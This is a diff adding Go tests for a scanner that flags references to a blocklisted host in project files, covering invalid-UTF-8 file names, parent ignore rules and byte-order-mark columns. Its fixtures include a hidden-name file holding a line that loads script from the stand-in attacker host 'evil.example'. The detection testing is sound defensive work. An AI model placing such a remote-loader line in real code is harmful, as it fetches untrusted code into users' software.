@@ -3,6 +3,9 @@ package tree_test
 import (
 	"context"
 	"fmt"
+	"io/fs"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 	"testing/fstest"
@@ -210,5 +213,58 @@ func TestFirstPartyScripts(t *testing.T) {
 	}
 	if msg := rep.Findings[0].Message(); !strings.Contains(msg, "injected into our own file") {
 		t.Errorf("served-file message = %q, want it to say the file may be injected", msg)
+	}
+}
+
+// TestOSNames reads files whose names are not valid UTF-8 (io/fs refuses them; the system
+// does not), so a loader cannot hide behind a name.
+func TestOSNames(t *testing.T) {
+	dir := t.TempDir()
+	name := "bad\xfe.js"
+	if err := os.WriteFile(filepath.Join(dir, name), []byte("load('https://evil.example/x.js')\n"), 0o644); err != nil {
+		t.Skipf("this file system refuses the name: %v", err)
+	}
+	rep, err := scanner.Scan(context.Background(), tree.New(os.DirFS(dir), tree.Options{Dir: dir}), set(t, "evil.example"), scanner.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rep.Findings) != 1 || rep.Findings[0].Path != name || len(rep.Skipped) != 0 {
+		t.Errorf("findings %v, skipped %v: want one reference in %q", places(rep), rep.Skipped, name)
+	}
+}
+
+// TestParentIgnores applies the ignore files of the work tree above a scanned subdirectory.
+func TestParentIgnores(t *testing.T) {
+	top := fstest.MapFS{
+		".git/info/exclude": {Data: []byte("tmp/\n")},
+		".gitignore":        {Data: []byte("dist/\n")},
+		"web/.gitignore":    {Data: []byte("*.log\n")},
+		"web/a.js":          {Data: []byte("evil.example\n")},
+		"web/dist/b.js":     {Data: []byte("evil.example\n")},
+		"web/tmp/c.js":      {Data: []byte("evil.example\n")},
+		"web/d.log":         {Data: []byte("evil.example\n")},
+	}
+	web, err := fs.Sub(top, "web")
+	if err != nil {
+		t.Fatal(err)
+	}
+	rep, err := scanner.Scan(context.Background(), tree.New(web, tree.Options{Top: top, Base: []string{"web"}}), set(t, "evil.example"), scanner.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff([]string{"a.js:1:1-13 declared-reference note host other"}, places(rep)); diff != "" {
+		t.Errorf("findings mismatch (-want +got):\n%s", diff)
+	}
+}
+
+func TestBOMColumn(t *testing.T) {
+	fsys := fstest.MapFS{"a.js": {Data: []byte("\uFEFFx='evil.example';\r\ny='evil.example';\r\n")}}
+	rep := scan(t, fsys, tree.Options{}, scanner.Options{}, "evil.example")
+	want := []string{"a.js:1:4-16 declared-reference note host other", "a.js:2:4-16 declared-reference note host other"}
+	if diff := cmp.Diff(want, places(rep)); diff != "" {
+		t.Errorf("findings mismatch (-want +got):\n%s", diff)
+	}
+	if s := rep.Findings[0].Snippet; s != "x='evil.example';" {
+		t.Errorf("snippet = %q, want no byte-order mark and no CR", s)
 	}
 }
